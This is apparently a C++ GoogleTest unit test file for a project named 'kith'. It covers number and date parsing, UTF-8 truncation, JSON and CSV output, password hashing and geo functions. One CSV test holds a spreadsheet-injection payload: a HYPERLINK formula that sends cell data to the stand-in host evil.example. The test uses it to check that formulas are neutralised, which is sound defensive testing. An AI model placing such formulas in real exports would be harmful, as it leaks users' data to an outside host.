#include <gtest/gtest.h>

#include <cmath>
#include <sstream>

#include <nlohmann/json.hpp>

#include "core/clock.h"
#include "core/crypto.h"
#include "core/csv.h"
#include "core/embedded.h"
#include "core/geo.h"
#include "core/text.h"

namespace kith {
namespace {

TEST(Text, ReadsWholeNumbersAsPeopleTypeThem) {
  EXPECT_EQ(parse_typed_number("£250"), 250);
  EXPECT_EQ(parse_typed_number(" £ 1,500 "), 1500);
  EXPECT_EQ(parse_typed_number("1,200"), 1200);
  EXPECT_EQ(parse_typed_number("12"), 12);
  for (const char* bad : {"", "£", "1,", ",1", "1,,2", "12.50", "£-", "twelve", "1 200", "$5", "££5"})
    EXPECT_FALSE(parse_typed_number(bad)) << bad;
}

TEST(Text, ParsesNumbersStrictly) {
  EXPECT_EQ(parse_int(" 42 "), 42);
  EXPECT_FALSE(parse_int("42x"));
  EXPECT_FALSE(parse_int(""));
  EXPECT_DOUBLE_EQ(*parse_number_with_commas("1,296"), 1296.0);
  EXPECT_FALSE(parse_double("abc"));
  for (const char* never : {"NaN", "nan", "inf", "-Infinity", "1e999", "0x10", "1.5h", "++1", "+"})
    EXPECT_FALSE(parse_double(never)) << never;
  EXPECT_DOUBLE_EQ(*parse_double(" +1.5 "), 1.5);
  EXPECT_DOUBLE_EQ(*parse_double("-2.25"), -2.25);
  EXPECT_DOUBLE_EQ(*parse_double("1e3"), 1000.0);
}

// Text shortened for a page is cut between characters, never inside one: a story in
// Urdu or Welsh cut at a byte would no longer be valid UTF-8.
TEST(Text, ShortensBetweenCharactersNotBytes) {
  EXPECT_EQ(utf8_prefix("abc", 2), "ab");
  EXPECT_EQ(utf8_prefix("ŵŷ", 1), "ŵ");
  EXPECT_EQ(utf8_prefix("ab", 5), "ab");
  const std::string urdu = "یہ کہانی ہے";
  EXPECT_EQ(utf8_length(urdu), 11u);
  EXPECT_EQ(shorten(urdu, 11, 3), urdu);
  const std::string cut = shorten(urdu, 10, 3);
  EXPECT_EQ(cut, "یہ …");
  EXPECT_TRUE(valid_utf8(cut));
}

TEST(Text, EncodesAndDecodesUrls) {
  EXPECT_EQ(url_decode("a+b%20c%2Fd"), "a b c/d");
  EXPECT_EQ(url_decode("100%"), "100%");
  EXPECT_EQ(url_decode_path("a+b%20c"), "a+b c");  // "+" is a space only in a query
  EXPECT_EQ(url_encode("S1 2HH/é"), "S1%202HH%2F%C3%A9");
  EXPECT_EQ(thousands(1234567), "1,234,567");
  EXPECT_EQ(thousands(-1000), "-1,000");
  EXPECT_EQ(thousands(999), "999");
  EXPECT_EQ(count_of(1, "member"), "1 member");
  EXPECT_EQ(count_of(0, "member"), "0 members");
  EXPECT_EQ(count_of(1200, "person", "people"), "1,200 people");
  EXPECT_EQ(count_of(1, "person", "people"), "1 person");
}

TEST(Text, WritesRangesWithTheirNoun) {
  EXPECT_EQ(range_text(1, 3, "project"), "1 to 3 projects");
  EXPECT_EQ(range_text(-10, 50, "hour"), "\u221210 to 50 hours");  // a minus sign, not a hyphen
  EXPECT_EQ(range_text(50, -10, "hour"), "\u221210 to 50 hours");  // ends given the wrong way round
  EXPECT_EQ(range_text(3, 3, "project"), "3 projects");
  EXPECT_EQ(range_text(1, 1, "project"), "1 project");
  EXPECT_EQ(range_text(0, 1, "project"), "0 to 1 projects");
  EXPECT_EQ(range_text(1000, 25000, "person", "people"), "1,000 to 25,000 people");
  EXPECT_EQ(range_text(-1500, -1, "hour"), "\u22121,500 to \u22121 hours");
}

// JSON written by hand reads back as nlohmann::json writes it: every string, control
// characters and quotes included, and numbers to the last digit.
TEST(Text, WritesJsonStringsAndNumbersThatReadBack) {
  for (std::string s :
       {std::string(""), std::string("Walking \"Football\" \\ club"), std::string("tab\tnew\nline\r"),
        std::string("bell\x07 and \x1f end"), std::string("Caf\xc3\xa9 \xd8\xa7\xd8\xb1\xd8\xaf\xd9\x88")}) {
    std::string out;
    append_json_string(out, s);
    EXPECT_EQ(nlohmann::json::parse(out).get<std::string>(), s) << out;
    EXPECT_EQ(out, nlohmann::json(s).dump());
  }
  for (double v : {53.32106547898599, -1.4926966120974945, 257.6, 0.0, 100.0, 1e-7, 12345678.9}) {
    std::string out;
    append_json_number(out, v);
    EXPECT_EQ(out, nlohmann::json(v).dump());
    EXPECT_EQ(nlohmann::json::parse(out).get<double>(), v);
  }
  std::string nan;
  append_json_number(nan, std::nan(""));
  EXPECT_EQ(nan, "null");
}

TEST(Csv, ReadsQuotedFieldsBomAndCrlf) {
  std::istringstream in("\xEF\xBB\xBFname,code\r\n\"Bristol, City of\",\"E06\"\"000023\"\r\nplain,\"multi\nline\"\n");
  CsvReader r(in);
  auto h = r.header();
  ASSERT_EQ(h.count("name"), 1u);
  std::vector<std::string> f;
  ASSERT_TRUE(r.next(f));
  EXPECT_EQ(f[0], "Bristol, City of");
  EXPECT_EQ(f[1], "E06\"000023");
  ASSERT_TRUE(r.next(f));
  EXPECT_EQ(f[1], "multi\nline");
  EXPECT_FALSE(r.next(f));
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
}

TEST(Csv, NeutralisesFormulasByOwaspsRule) {
  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Click\"\")\"");
  EXPECT_EQ(csv_field("=1+2"), "\"'=1+2\"");
  EXPECT_EQ(csv_field("+44 117 000"), "\"'+44 117 000\"");
  EXPECT_EQ(csv_field("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(csv_field("@SUM(A1:A2)"), "\"'@SUM(A1:A2)\"");
  EXPECT_EQ(csv_field("\t=1"), "\"'\t=1\"");
  EXPECT_EQ(csv_field("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(csv_field("-"), "\"'-\"");
  EXPECT_EQ(csv_field("-e5"), "\"'-e5\"");
  EXPECT_EQ(csv_field("-1e"), "\"'-1e\"");
  // A cell that is only a number stays a number.
  for (const char* n : {"-2.01", "-10", "+3", "-.5", "-1.5e-3", "0", "12.50"}) EXPECT_EQ(csv_field(n), n) << n;
  // Text that merely contains the characters later is untouched.
  EXPECT_EQ(csv_field("Tea & chat = friends"), "Tea & chat = friends");
  EXPECT_EQ(csv_field(""), "");
  EXPECT_EQ(csv_line({"=cmd", "-10", "plain"}), "\"'=cmd\",-10,plain\n");
  EXPECT_TRUE(csv_formula("=A1"));
  EXPECT_FALSE(csv_formula("-2.01"));
  EXPECT_FALSE(csv_formula("A=1"));
}

// Found by tests/fuzz/fuzz_csv: two bytes that begin a byte order mark (EF BB) were
// taken for all three, and the byte after them was lost.
TEST(Csv, SkipsOnlyAWholeByteOrderMark) {
  std::istringstream in("\xEF\xBBX,y\n");
  CsvReader r(in);
  std::vector<std::string> f;
  ASSERT_TRUE(r.next(f));
  EXPECT_EQ(f, (std::vector<std::string>{"\xEF\xBBX", "y"}));
  std::istringstream bom("\xEF\xBB\xBFX,y\n");
  CsvReader with_bom(bom);
  ASSERT_TRUE(with_bom.next(f));
  EXPECT_EQ(f, (std::vector<std::string>{"X", "y"}));
  std::istringstream cut("\xEF\xBB");
  CsvReader cut_short(cut);
  ASSERT_TRUE(cut_short.next(f));
  EXPECT_EQ(f, (std::vector<std::string>{"\xEF\xBB"}));
}

// A quote never closed swallows the rest of the file into one cell: the reader says
// on which line it opened, and a closed one (even across lines) is not reported.
TEST(Csv, SaysWhereAQuoteWasNeverClosed) {
  std::istringstream broken("name,notes\nA,fine\nB,\"opens here\nC,lost\n");
  CsvReader r(broken);
  std::vector<std::string> f;
  while (r.next(f)) {
  }
  ASSERT_TRUE(r.unclosed_quote().has_value());
  EXPECT_EQ(*r.unclosed_quote(), 3u);
  std::istringstream sound("name,notes\nA,\"two\nlines\"\nB,\"say \"\"hi\"\"\"\n");
  CsvReader s(sound);
  std::vector<std::vector<std::string>> rows;
  while (s.next(f)) rows.push_back(f);
  EXPECT_FALSE(s.unclosed_quote().has_value());
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[1], (std::vector<std::string>{"A", "two\nlines"}));
  EXPECT_EQ(rows[2], (std::vector<std::string>{"B", "say \"hi\""}));
}

TEST(Crypto, PasswordsVerifyOnlyWithTheRightPassword) {
  std::string h = hash_password("correct horse battery");
  EXPECT_TRUE(h.rfind("$argon2id$", 0) == 0) << h;
  EXPECT_TRUE(verify_password("correct horse battery", h));
  EXPECT_FALSE(verify_password("correct horse batterx", h));
  EXPECT_NE(hash_password("correct horse battery"), h);  // salted
}

TEST(Crypto, TokensAreRandomAndHashesStable) {
  EXPECT_EQ(random_token(32).size(), 43u);
  EXPECT_NE(random_token(), random_token());
  EXPECT_EQ(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_TRUE(constant_time_equal("abc", "abc"));
  EXPECT_FALSE(constant_time_equal("abc", "abd"));
  EXPECT_FALSE(constant_time_equal("abc", "ab"));
}

TEST(Clock, RoundTripsIsoTimes) {
  EXPECT_EQ(iso_utc(0), "1970-01-01T00:00:00Z");
  EXPECT_EQ(parse_iso_utc("2026-11-24T15:04:05Z"), 1795532645);
  EXPECT_EQ(iso_utc(parse_iso_utc("2026-11-24T15:04:05Z")), "2026-11-24T15:04:05Z");
}

TEST(Clock, TellsRealDatesAndTimesFromLookalikes) {
  for (const char* ok : {"2026-06-30", "2026-06-30T09:00", "2026-06-30T09:00:00Z", "2024-02-29T23:59:59.123Z",
                         "2026-06-30T09:00:00+01:00", "2026-06-30T09:00-05:30"})
    EXPECT_TRUE(is_iso_date_time(ok)) << ok;
  for (const char* bad : {"2026-13-45T99:99", "2026-02-29", "2026-06-30T24:00", "2026-06-30T09:60", "2026-06-30 09:00",
                          "2026-06-30T09:00:00ZZ", "2026-06-30T09:00:00.Z", "2026-06-30T09:00+1", "garbage", "",
                          "2026-06-30T", "2026-06-30T09:00:61"})
    EXPECT_FALSE(is_iso_date_time(bad)) << bad;
}

TEST(Geo, DistanceAndPointInPolygon) {
  // Sheffield Town Hall to Chorley Town Hall, about 83 km.
  double d = geo::distance_m({-1.4701, 53.3806}, {-2.6296, 53.6530});
  EXPECT_NEAR(d, 82000, 2500);
  geo::MultiPolygon square = {{{{0, 0}, {10, 0}, {10, 10}, {0, 10}, {0, 0}}, {{4, 4}, {6, 4}, {6, 6}, {4, 6}, {4, 4}}}};
  EXPECT_TRUE(geo::contains(square, {1, 1}));
  EXPECT_FALSE(geo::contains(square, {5, 5}));  // in the hole
  EXPECT_FALSE(geo::contains(square, {11, 5}));
}

TEST(Embedded, StaticAssetsHaveContentHashes) {
  const auto* css = embedded::find("static/kith.css");
  ASSERT_NE(css, nullptr);
  EXPECT_EQ(css->hash.size(), 12u);
  EXPECT_NE(css->data.find("govuk-header"), std::string_view::npos);
  const auto* js = embedded::find("static/kith.js");
  ASSERT_NE(js, nullptr);
  EXPECT_NE(css->hash, js->hash);
  EXPECT_FALSE(embedded::under("migrations/").empty());
}

}  // namespace
}  // namespace kith
